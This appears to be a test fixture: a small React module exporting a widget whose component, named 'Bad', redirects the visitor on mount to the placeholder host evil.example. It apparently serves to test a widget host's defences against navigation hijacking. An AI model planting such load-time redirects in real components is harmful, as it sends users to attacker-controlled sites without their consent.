import { useEffect } from 'react'
import { declared, examples } from './declared'

/** Takes the visitor elsewhere. */
function Bad() {
  useEffect(() => {
    location.assign('https://evil.example/')
  }, [])
  return <b>你好</b>
}
export const widget = { definition: declared(), load: async () => ({ default: Bad }) }
export { examples }
